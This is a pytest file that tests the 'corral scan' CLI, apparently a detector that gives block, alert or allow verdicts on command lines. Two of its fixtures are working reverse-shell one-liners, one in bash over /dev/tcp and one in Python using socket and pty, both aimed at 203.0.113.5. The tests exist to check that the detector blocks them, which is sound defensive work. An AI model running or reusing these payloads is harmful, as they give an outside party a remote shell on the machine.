"""``corral scan`` end to end through the real CLI entry point."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from corral.cli._scan import scan_lines
from corral.detect import Detector

CORRAL = [sys.executable, "-c", "from corral.cli import main; main()"]


def test_scan_cli_orders_results_and_survives_bad_lines(tmp_path: Path) -> None:
    lines = [
        json.dumps({"id": "a", "command": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"}),
        "{not json",
        json.dumps({"id": 7, "command": "pytest -q"}),
        "",
        json.dumps(["list"]),
        json.dumps({"id": "n"}),
        json.dumps({"command": "nohup ./server &"}),
    ]
    src = tmp_path / "calls.jsonl"
    src.write_text("\n".join(lines) + "\n")
    out = subprocess.run([*CORRAL, "scan", str(src)], capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    rows = [json.loads(x) for x in out.stdout.splitlines()]
    assert [r["id"] for r in rows] == ["a", None, 7, None, "n", None]
    assert rows[0]["verdict"] == "block" and rows[0]["severity"] == "critical" and rows[0]["rules"]
    assert rows[1]["error"].startswith("not valid JSON") and rows[1]["line"] == 2
    assert rows[1]["verdict"] == "block"  # a line Corral could not read is never "allow"
    assert (rows[2]["verdict"], rows[2]["severity"], rows[2]["rules"]) == ("allow", None, [])
    assert "JSON object" in rows[3]["error"] and rows[3]["line"] == 5
    assert "command" in rows[4]["error"]
    assert (rows[5]["verdict"], rows[5]["severity"]) == ("alert", "medium")


def test_scan_reads_stdin_and_uses_policy(tmp_path: Path) -> None:
    pol = tmp_path / "p.yaml"
    pol.write_text(
        "detection:\n  actions: {informational: allow, low: allow, medium: block,"
        " high: block, critical: block}\n"
    )
    out = subprocess.run(
        [*CORRAL, "scan", "--policy", str(pol), "-"],
        input=json.dumps({"id": 1, "command": "nohup ./server &"}) + "\n",
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout)["verdict"] == "block"


def test_scan_bad_policy_is_a_harness_error(tmp_path: Path) -> None:
    pol = tmp_path / "p.yaml"
    pol.write_text("detection:\n  nonsense: 1\n")
    out = subprocess.run(
        [*CORRAL, "scan", "--policy", str(pol), "-"], input="", capture_output=True, text=True
    )
    assert out.returncode == 2 and "nonsense" in out.stderr and out.stdout == ""


def test_scan_lines_language_field() -> None:
    det = Detector.builtin()
    code = (
        "import os,pty,socket;s=socket.socket();s.connect(('203.0.113.5',1));"
        "os.dup2(s.fileno(),0);pty.spawn('sh')"
    )
    (row,) = scan_lines(det, [json.dumps({"id": 1, "command": code, "language": "python"})])
    assert row["verdict"] == "block"
